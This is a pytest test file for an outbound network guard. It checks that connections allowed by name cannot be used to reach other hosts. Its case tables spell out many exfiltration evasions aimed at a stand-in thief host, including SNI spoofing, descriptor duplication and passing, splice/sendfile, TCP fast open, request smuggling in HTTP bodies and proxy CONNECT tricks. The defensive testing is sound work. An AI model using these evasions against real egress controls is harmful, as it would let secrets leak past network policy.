"""What may be said first on a connection that a name allowed: by every way to write to it, and by the servers' notes.

Each act is a few lines that say something else than what the entry allows. Bare, bytes of it arrive; under a policy
that blocks, none does, and an event has the word for what they were; under one that reports, they arrive as they were.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from typing import Any

import pytest

from tests import support
from tests.egress import places
from tests.egress.network import Arrived, Done, Network
from tests.support import rules

THIEF = f"token.{places.THIEF}"
ENTRIES = [
    {"host": places.API},
    {"host": places.PLAIN, "ports": [80]},
    {"host": places.PROXY_NAME, "ports": [places.PROXY_PORT], "tls": "none"},
]

PRELUDE = f"""
import array, ctypes, os, select, signal, socket, ssl, struct, subprocess, sys, time
from tests import hellos
signal.alarm(20)
API, PLAIN, THIEF, PROXY = {places.API!r}, {places.PLAIN!r}, {THIEF!r}, ({places.PROXY_NAME!r}, {places.PROXY_PORT})
GOOD, BAD = hellos.openssl(API), hellos.openssl(THIEF)
RAW = b"token: all that there is to take"
libc = ctypes.CDLL(None, use_errno=True)
def dial(host=API, port=443):
    return socket.create_connection((host, port), 5)
def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def in_child(act):
    pid = os.fork()
    if pid == 0:
        try:
            act()
        except OSError as error:
            print(type(error).__name__, flush=True)
        os._exit(0)
    os.waitpid(pid, 0)
def request(host, *lines, path="/token"):
    return "\\r\\n".join(("GET " + path + " HTTP/1.1", "Host: " + host) + lines + ("", "")).encode()
"""

# NAME: (what it says, the word of the event)
TLS = {
    "send": ("dial().send(RAW)", "not_tls"),
    "sendall": ("dial().sendall(BAD)", "other_server_name"),
    "sendto": ("dial().sendto(BAD, (API, 443))", "other_server_name"),
    "sendmsg": ("dial().sendmsg([BAD[:40], b'', BAD[40:]])", "other_server_name"),
    "write": ("os.write(dial().detach(), BAD)", "other_server_name"),
    "writev": ("os.writev(dial().detach(), [BAD[:1], BAD[1:]])", "other_server_name"),
    "dup": ("os.write(os.dup(dial().detach()), BAD)", "other_server_name"),
    "dup2": ("s = dial(); os.dup2(s.fileno(), 77); os.write(77, BAD)", "other_server_name"),
    "F_DUPFD": (
        "import fcntl; s = dial(); os.write(fcntl.fcntl(s, fcntl.F_DUPFD_CLOEXEC, 50), BAD)",
        "other_server_name",
    ),
    "dup and close": ("s = dial(); t = s.dup(); s.close(); t.send(BAD)", "other_server_name"),
    "makefile": ("f = dial().makefile('wb'); f.write(BAD); f.flush()", "other_server_name"),
    "in a forked child": ("s = dial(); in_child(lambda: s.send(BAD))", "other_server_name"),
    "after a forked child": ("s = dial(); in_child(lambda: s.close()); s.send(BAD)", "other_server_name"),
    "sendfile": (
        "fd = os.memfd_create('x'); os.write(fd, BAD); os.sendfile(dial().detach(), fd, 0, len(BAD))",
        "unseen",
    ),
    "splice": (
        "r, w = os.pipe(); os.write(w, BAD); libc.splice.restype = ctypes.c_ssize_t\n"
        "check(libc.splice(r, None, dial().detach(), None, len(BAD), 0))",
        "unseen",
    ),
    "libc's write": ("check(libc.write(dial().detach(), BAD, len(BAD)))", "other_server_name"),
    "libc's syscall": (
        "import platform; number = 1 if platform.machine() == 'x86_64' else 64\n"
        "check(libc.syscall(number, dial().detach(), BAD, len(BAD)))",
        "other_server_name",
    ),
    "dprintf": ("check(libc.dprintf(dial().detach(), RAW))", "not_tls"),
    "a stream": (
        "libc.fdopen.restype = ctypes.c_void_p\n"
        "f = libc.fdopen(dial().detach(), b'w')\n"
        "f or check(-1); libc.fputs(RAW, ctypes.c_void_p(f)); libc.fflush(ctypes.c_void_p(f))",
        "stream",
    ),
    "a stream made before": (
        "libc.fdopen.restype = ctypes.c_void_p; s = socket.socket(); address = socket.getaddrinfo(API, 443)[0][4]\n"
        "f = libc.fdopen(s.fileno(), b'w'); s.connect(('10.66.0.80', 443))\n"
        "f or check(-1); libc.fputs(RAW, ctypes.c_void_p(f)); libc.fflush(ctypes.c_void_p(f))",
        "stream",
    ),
    "standard output": ("os.dup2(dial().detach(), 1); libc.puts(RAW); libc.fflush(None)", "stream"),
    "standard output before": (
        "s = socket.socket(); os.dup2(s.fileno(), 1); socket.getaddrinfo(API, 443)\n"
        "s.connect(('10.66.0.80', 443)); libc.puts(RAW); libc.fflush(None)",
        "stream",
    ),
    "fast open": (
        "socket.getaddrinfo(API, 443); socket.socket().sendto(BAD, socket.MSG_FASTOPEN, ('10.66.0.80', 443))",
        "other_server_name",
    ),
    "fast open by option": (
        "s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, 30, 1); socket.getaddrinfo(API, 443)\n"
        "s.connect(('10.66.0.80', 443)); s.send(BAD)",
        "other_server_name",
    ),
    "out of band": ("dial().send(GOOD, socket.MSG_OOB)", "out_of_band"),
    "non-blocking": (
        "s = socket.socket(); s.setblocking(False); socket.getaddrinfo(API, 443)\n"
        "s.connect_ex(('10.66.0.80', 443)); select.select([], [s], [], 5); s.send(BAD)",
        "other_server_name",
    ),
    "split": ("s = dial(); s.send(GOOD[:60]); time.sleep(.1); s.send(GOOD[60:])", "split"),
    "byte by byte": ("s = dial(); [s.send(GOOD[i:i + 1]) for i in range(len(GOOD))]", "split"),
    "fragmented": (
        "m = hellos.client_hello(API.encode()); dial().send(hellos.record(m[:50]) + hellos.record(m[50:]))",
        "fragmented",
    ),
    "oversized": (
        "m = hellos.client_hello(API.encode(), hellos.extension(21, bytes(40000)))\n"
        "dial().sendall(hellos.record(m[:16384]) + hellos.record(m[16384:32768]) + hellos.record(m[32768:]))",
        "oversized",
    ),
    "no server name": ("dial().send(hellos.openssl(None))", "no_server_name"),
    "ech": ("dial().send(hellos.hello(API.encode(), hellos.extension(hellos.ECH, bytes(64))))", "ech"),
    "early data": ("dial().send(hellos.hello(API.encode(), hellos.extension(hellos.EARLY_DATA, b'')))", "early_data"),
    "http on 443": ("dial().send(request(API))", "not_tls"),
    "asyncio": (
        "import asyncio\n"
        "async def go():\n"
        "    context = ssl.create_default_context()\n"
        "    context.check_hostname = False\n"
        "    await asyncio.open_connection(API, 443, ssl=context, server_hostname=THIEF)\n"
        "asyncio.run(go())",
        "other_server_name",
    ),
    "ssl": (
        "context = ssl.create_default_context(); context.check_hostname = False\n"
        "context.wrap_socket(dial(), server_hostname=THIEF)",
        "other_server_name",
    ),
    "passed on": (
        "near, far = socket.socketpair()\n"
        "def take():\n"
        "    _, fds, _, _ = socket.recv_fds(far, 9, 1)\n"
        "    os.write(fds[0], RAW)\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    near.close()\n"
        "    try:\n"
        "        take()\n"
        "    finally:\n"
        "        os._exit(0)\n"
        "far.close(); s = dial(); socket.send_fds(near, [b'x'], [s.fileno()]); near.close(); os.waitpid(pid, 0)",
        "passed",
    ),
    "before a program": (
        "s = dial(); s.set_inheritable(True)\n"
        "subprocess.run([sys.executable, '-c', f'import os; os.write({s.fileno()}, {RAW!r})'], close_fds=False, "
        "stderr=subprocess.DEVNULL, check=True)",
        "inherited",
    ),
}
HTTP = {
    "another host": ("dial(PLAIN, 80).send(request(THIEF))", "other_host"),
    "a proxy's form": ("dial(PLAIN, 80).send(request(PLAIN, path='http://' + THIEF + '/'))", "other_host"),
    "raw on 80": ("dial(PLAIN, 80).send(RAW)", "not_http"),
    "tls on 80": ("dial(PLAIN, 80).send(GOOD)", "not_http"),
    "no host": ("dial(PLAIN, 80).send(b'GET /token HTTP/1.1\\r\\nA: b\\r\\n\\r\\n')", "no_host"),
    "two hosts": ("dial(PLAIN, 80).send(request(PLAIN, 'Host: ' + THIEF))", "two_hosts"),
    "upgrade": ("dial(PLAIN, 80).send(request(PLAIN, 'Upgrade: h2c'))", "upgrade"),
    "two requests at once": ("dial(PLAIN, 80).send(request(PLAIN) + request(THIEF))", "other_host"),
    "line by line": ("s = dial(PLAIN, 80); r = request(PLAIN); s.send(r[:21]); s.send(r[21:])", "split"),
    "a bare newline": ("dial(PLAIN, 80).send(request(PLAIN, 'A: b\\nHost: ' + THIEF))", "malformed"),
}  # fmt: skip
CASES = [pytest.param(code, word, id=name) for name, (code, word) in {**TLS, **HTTP}.items()]


@dataclass
class Act:
    """An act in the network."""

    done: Done

    @property
    def result(self) -> support.Guarded:
        return self.done.result

    @property
    def arrived(self) -> Arrived:
        return self.done.arrived

    @property
    def said(self) -> int:
        """Bytes that arrived as a connection's first."""
        return sum(int(note["bytes"]) for note in self.arrived.of("connection"))

    @property
    def words(self) -> set[tuple[str, str | None]]:
        return {(event["mode"], event["details"].get("first_bytes")) for event in self.result.violations}


def act(network: Network, code: str, mode: str | None, env: dict[str, str] | None = None, **more: Any) -> Act:
    policy = rules({"mode": mode, "allow": ENTRIES}, **more) if mode else None
    given = {"PYTHONPATH": str(support.ROOT), "SSL_CERT_FILE": str(network.authority), **(env or {})}
    return Act(network.run([sys.executable, "-c", PRELUDE + code], policy=policy, env=given, stdin=""))


_bare: dict[str, Act] = {}


def bare_act(network: Network, code: str) -> Act:
    """The act without the guard; each is done once."""
    if code not in _bare:
        _bare[code] = act(network, code, None)
    return _bare[code]


@pytest.mark.parametrize(("code", "word"), CASES)
def test_bare_it_arrives(network: Network, code: str, word: str) -> None:
    assert bare_act(network, code).said > 0


def test_kernel_tls_would_send_something_else(network: Network) -> None:
    """Not every kernel has it: it is refused before the kernel says so."""
    run = act(network, "s = dial(); s.setsockopt(socket.IPPROTO_TCP, 31, b'tls'); s.send(GOOD)", "block")
    assert (run.said, run.words) == (0, {("block", "unseen")}), run.result.stderr


@pytest.mark.parametrize(("code", "word"), CASES)
def test_nothing_else_is_said(network: Network, code: str, word: str) -> None:
    run = act(network, code, "block")
    assert run.said == 0, run.arrived
    assert run.words == {("block", word)}, (run.words, run.result.stderr)
    assert "token" not in run.result.stdout


@pytest.mark.parametrize(("code", "word"), CASES)
def test_alert_lets_it_be_said(network: Network, code: str, word: str) -> None:
    bare, run = bare_act(network, code), act(network, code, "alert")
    # How much of what is said in several writes is noted as the first of it is a matter of time.
    assert run.said > 0 and bare.said > 0
    assert (run.result.returncode, run.result.stdout) == (bare.result.returncode, bare.result.stdout)
    assert ("alert", word) in run.words
    assert {mode for mode, _ in run.words} == {"alert"}


def test_what_the_event_says(network: Network) -> None:
    run = act(network, "dial().send(BAD)", "block")
    (event,) = run.result.violations
    assert (event["policy"], event["reason"]) == ("outbound_connectivity", "server_name")
    assert event["details"]["host"] == THIEF and event["details"]["connected_as"] == places.API
    assert (event["details"]["port"], event["details"]["protocol"]) == (443, "tcp")
    assert event["rule"].startswith("test.yaml:") and event["rule"] in event["message"]
    assert "PermissionError" in run.result.stderr
    (event,) = act(network, "dial().send(RAW)", "block").result.violations
    assert (event["reason"], event["details"]["host"]) == ("tls", places.API)


def test_it_stays_cut(network: Network) -> None:
    code = """
s = dial()
for said in (RAW, GOOD, RAW):
    try:
        s.send(said)
        print("sent")
    except OSError as error:
        print(type(error).__name__)
"""
    run = act(network, code, "block")
    assert run.said == 0 and run.result.stdout.splitlines()[0] == "PermissionError" and "sent" not in run.result.stdout


SECOND = """
s = dial()
s.send(GOOD)
try:
    s.send({said})
    print("sent")
except OSError as error:
    print(type(error).__name__)
"""


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("BAD", "PermissionError"),
        ("hellos.record(b'\\1', 0x14) + BAD", "PermissionError"),
        ("hellos.record(b'\\1\\x5a', 0x15) + BAD", "PermissionError"),
        ("BAD[:3]", "PermissionError"),
        ("GOOD", "sent"),
        ("hellos.record(b'\\1', 0x14)", "sent"),
        ("hellos.record(b'x' * 60, 0x17)", "sent"),
    ],
)
def test_a_second_greeting(network: Network, said: str, expected: str) -> None:
    """As after HelloRetryRequest: a server may take the name of the second one."""
    assert act(network, SECOND.format(said=said), "block").result.stdout.strip() == expected


def test_a_second_greeting_behind_records_that_servers_pass_over(network: Network) -> None:
    run = act(network, SECOND.format(said="hellos.record(b'\\1', 0x14)") + "s.send(BAD)", "block")
    assert run.words == {("block", "other_server_name")}


KEPT = """
import threading
HOST = PROXY[0]
listener = socket.create_server((socket.gethostbyname(HOST), 80))
heard = bytearray()
def hear():
    peer = listener.accept()[0]
    while more := peer.recv(65536):
        heard.extend(more)
thread = threading.Thread(target=hear)
thread.start()
s = dial(HOST, 80)
def go(*pieces):
    try:
        for piece in pieces:
            s.sendall(piece)
        print("sent")
    except OSError as error:
        print(type(error).__name__)
def end():
    s.close()
    thread.join()
    print(len(heard), THIEF.encode() in heard)
post = b"POST /a HTTP/1.1\\r\\nHost: " + HOST.encode() + b"\\r\\nContent-Length: 50000\\r\\n\\r\\n"
chunked = b"POST /a HTTP/1.1\\r\\nHost: " + HOST.encode() + b"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
"""
KEPT_POLICY = {"allow": [{"host": places.PROXY_NAME, "ports": [80]}]}


def kept(network: Network, code: str, mode: str) -> support.Guarded:
    policy = rules({"mode": mode, **KEPT_POLICY})
    argv = [sys.executable, "-c", PRELUDE + KEPT + code + "\nend()"]
    return network.run(argv, policy=policy, env={"PYTHONPATH": str(support.ROOT)}, stdin="").result


def test_requests_on_a_kept_connection(network: Network) -> None:
    code = """
go(request(HOST))
go(post, b"x" * 40000, b"x" * 9999, b"x")
go(chunked, b"3", b"\\r\\nabc\\r\\n", b"0\\r\\n\\r\\n")
go(request(HOST) + request(HOST))
go(request(THIEF))
"""
    run = kept(network, code, "block")
    *sent, heard = run.stdout.splitlines()
    assert sent == ["sent"] * 4 + ["PermissionError"] and heard.endswith("False") and int(heard.split()[0]) > 50000
    assert [event["details"]["first_bytes"] for event in run.violations] == ["other_host"]
    run = kept(network, code, "alert")
    assert run.stdout.splitlines()[4] == "sent" and run.stdout.endswith("True\n")
    assert [event["mode"] for event in run.violations] == ["alert"]


@pytest.mark.parametrize(
    "code",
    [
        "go(post, b'x' * 49990, b'x' * 10 + request(THIEF))",
        "go(post, b'x' * 50000 + request(THIEF))",
        "go(post, b'x' * 50000, request(THIEF))",
        "go(chunked, b'0\\r\\n\\r\\n' + request(THIEF))",
        "go(chunked, b'0\\r\\n\\r\\n', request(THIEF))",
        # Connected again, which fails: the next request would be a body's bytes, and what follows those a request.
        "s.sendall(post); s.connect_ex((socket.gethostbyname(HOST), 80)); go(post, request(HOST) + request(THIEF))",
        "s.sendall(post); in_child(lambda: s.sendall(request(HOST) + b'x' * 40000)); go(b'x' * 50000, request(THIEF))",
    ],
)
def test_requests_hidden_in_bodies(network: Network, code: str) -> None:
    run = kept(network, code, "block")
    assert run.stdout.endswith("False\n") and "PermissionError" in run.stdout, run
    assert run.violations != []
    assert kept(network, code, "alert").stdout.endswith("True\n")


def test_what_is_allowed(network: Network) -> None:
    code = """
import http.client, urllib.request
for name in (API, "unrelated"):
    try:
        print(urllib.request.urlopen(f"https://{name}/token", timeout=5).status)
    except OSError as error:
        print(type(error).__name__)
print(urllib.request.urlopen(urllib.request.Request(f"http://{PLAIN}/token", data=b"x" * 200000), timeout=5).status)
s = dial(PLAIN, 80)
in_child(lambda: None)
s.sendall(request(PLAIN)); print(s.recv(100)[:15])
"""
    run = act(network, code, "block")
    assert run.result.stdout.split("\n")[:4] == ["200", "URLError", "200", "b'HTTP/1.1 200 OK'"], run.result
    assert run.words == {("block", None)}


def test_one_entry_two_names(network: Network) -> None:
    """Another name of the same entry may be named; one of another entry may where a look-up led to this address."""
    code = "for name in (b'two.allowed.example', API.encode()): dial('one.allowed.example').send(hellos.hello(name))"
    wide = {"mode": "block", "allow": [{"host": "*.allowed.example"}]}
    given = {"PYTHONPATH": str(support.ROOT)}
    argv = [sys.executable, "-c", PRELUDE + code]
    assert network.run(argv, policy=rules(wide), env=given, stdin="").result.violations == []
    apart = {"mode": "block", "allow": [{"host": "one.allowed.example"}, {"host": places.API}]}
    done = network.run(
        [*argv[:2], PRELUDE + "dial('one.allowed.example').send(GOOD)"], policy=rules(apart), env=given, stdin=""
    )
    assert [event["details"]["first_bytes"] for event in done.result.violations] == ["other_server_name"]
    both = PRELUDE + "socket.getaddrinfo(API, 443); dial('one.allowed.example').send(GOOD)"
    assert network.run([*argv[:2], both], policy=rules(apart), env=given, stdin="").result.violations == []


@pytest.mark.parametrize("mode", [None, "block", "alert"])
def test_as_much_is_sent_by_one_call(network: Network, mode: str | None) -> None:
    """A blocking socket sends all that it is given, whatever is looked at on the way."""
    code = """
post = b"POST /token HTTP/1.1\\r\\nHost: " + PLAIN.encode() + b"\\r\\nContent-Length: 1000000\\r\\n\\r\\n"
s = dial(PLAIN, 80)
print(s.send(post + bytes(1000000)) - len(post), s.recv(12))
s = dial(PLAIN, 80)
print(s.sendmsg([post, bytes(500000), bytes(499999), b"x"]) - len(post), s.recv(12))
"""
    run = act(network, code, mode)
    assert run.result.stdout == "1000000 b'HTTP/1.1 200'\n" * 2, run.result
    assert run.result.violations == []


@pytest.mark.parametrize("tls", ["none", "starttls"])
def test_tls_is_not_asked_for(network: Network, tls: str) -> None:
    entry = {"host": places.API, "ports": [443, places.OTHER_PORT], "tls": tls}
    code = PRELUDE + f"dial().send(RAW); dial(port={places.OTHER_PORT}).send(RAW)"
    policy = rules({"mode": "block", "allow": [entry]})
    done = network.run([sys.executable, "-c", code], policy=policy, env={"PYTHONPATH": str(support.ROOT)}, stdin="")
    assert done.result.violations == [] and len(done.arrived.of("connection")) == 2


@pytest.mark.parametrize(("tls", "expected"), [("required", ["not_tls"]), (None, [])])
def test_tls_on_another_port(network: Network, tls: str | None, expected: list[str]) -> None:
    entry = {"host": places.API, "ports": [places.OTHER_PORT], **({"tls": tls} if tls else {})}
    code = PRELUDE + f"dial(port={places.OTHER_PORT}).send(RAW)"
    policy = rules({"mode": "block", "allow": [entry]})
    done = network.run([sys.executable, "-c", code], policy=policy, env={"PYTHONPATH": str(support.ROOT)}, stdin="")
    assert [event["details"]["first_bytes"] for event in done.result.violations] == expected


def test_an_address_is_not_inspected(network: Network) -> None:
    policy = rules({"mode": "block", "allow": [*ENTRIES, {"cidr": "10.66.0.80/32"}, {"cidr": "fd66::80/128"}]})
    done = network.run(
        [sys.executable, "-c", PRELUDE + "dial().send(RAW)"],
        policy=policy,
        env={"PYTHONPATH": str(support.ROOT)},
        stdin="",
    )
    assert done.result.violations == [] and done.arrived.of("connection")[0]["bytes"] > 0


DATAGRAM = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
socket.getaddrinfo(API, 443)
s.connect(("10.66.0.80", 443))
print(s.getsockname()[0])
"""


@pytest.mark.parametrize("code", ["s.send(RAW)", "s.sendto(RAW, ('10.66.0.80', 443))", "os.write(s.fileno(), RAW)"])
def test_datagrams(network: Network, code: str) -> None:
    """TLS over TCP was allowed: QUIC cannot be read. Asking the kernel for the way there is no datagram."""
    assert act(network, DATAGRAM + code, None).arrived.of("datagram")
    run = act(network, DATAGRAM + code, "block")
    assert run.result.stdout and not run.arrived.of("datagram")
    assert run.words == {("block", "datagram")}
    assert act(network, DATAGRAM, "block").result.violations == []


TUNNEL = """
s = dial(*PROXY)
s.send(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
print(s.recv(100)[:12])
s.send({said})
"""
PROXIED = {"HTTPS_PROXY": f"http://user:secret@{places.PROXY_NAME}:{places.PROXY_PORT}"}


@pytest.mark.parametrize(
    ("target", "said", "events"),
    [
        (f"{places.API}:443", "GOOD", []),
        (f"{places.API}:443", "BAD", [(THIEF, 443, "server_name")]),
        (f"{places.API}:443", "RAW", [(places.PROXY_NAME, places.PROXY_PORT, "tls")]),
        (f"{places.API}:8443", "GOOD", [(places.API, 8443, "port")]),
        (f"{THIEF}:443", "BAD", [(THIEF, 443, "no_rule")]),
        ("10.66.0.80:443", "GOOD", [("10.66.0.80", 443, "no_rule")]),
    ],
)
def test_behind_a_proxy(network: Network, target: str, said: str, events: list[tuple[str, int, str]]) -> None:
    code = TUNNEL.replace("{target}", target).replace("{said}", said)
    run = act(network, code, "block", PROXIED)
    got = [(event["details"]["host"], event["details"]["port"], event["reason"]) for event in run.result.violations]
    assert got == events, run.result
    assert {note["server_name"] for note in run.arrived.of("hello")} <= {places.API}
    if events and events[0][2] in ("port", "no_rule"):
        assert [note for note in run.arrived.of("proxy") if note["method"]] == []


def test_a_client_behind_a_proxy(network: Network) -> None:
    code = """
import urllib.request
for url in (f"https://{API}/token", f"https://{THIEF}/token", f"http://{PLAIN}/token", f"http://{THIEF}/token"):
    try:
        print(urllib.request.urlopen(url, timeout=5).status)
    except OSError as error:
        print(type(error).__name__)
"""
    env = {**PROXIED, "HTTP_PROXY": PROXIED["HTTPS_PROXY"]}
    assert act(network, code, None, env).result.stdout.split()[0] == "200"
    run = act(network, code, "block", env)
    assert run.result.stdout.split() == ["200", "URLError", "200", "URLError"]
    assert run.arrived.holding(THIEF) == []


MANY = """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
open_, refused = [], 0
for _ in range(1400):
    try:
        open_.append(dial())
    except OSError:
        refused += 1
print(len(open_) > 500, refused > 0)
# Closed behind the guard's back, as a forked child's copies would be: what no descriptor leads to makes room.
if len(sys.argv) > 1:
    os.closerange(open_[0].fileno(), 4096)
else:
    for one in open_:
        one.close()
for _ in range(100):
    one = dial()
    one.send(GOOD)
    one.close()
print("again")
sys.stdout.flush()
os._exit(0)
"""


@pytest.mark.parametrize("ways", [[], ["range"]])
def test_more_connections_than_there_is_room_for(network: Network, ways: list[str]) -> None:
    policy = rules({"mode": "block", "allow": ENTRIES})
    argv = [sys.executable, "-c", PRELUDE + MANY, *ways]
    result = network.run(argv, policy=policy, env={"PYTHONPATH": str(support.ROOT)}, stdin="").result
    assert result.stdout.splitlines() == ["True True", "again"], result
    assert {event["details"]["first_bytes"] for event in result.violations} == {"too_many"}
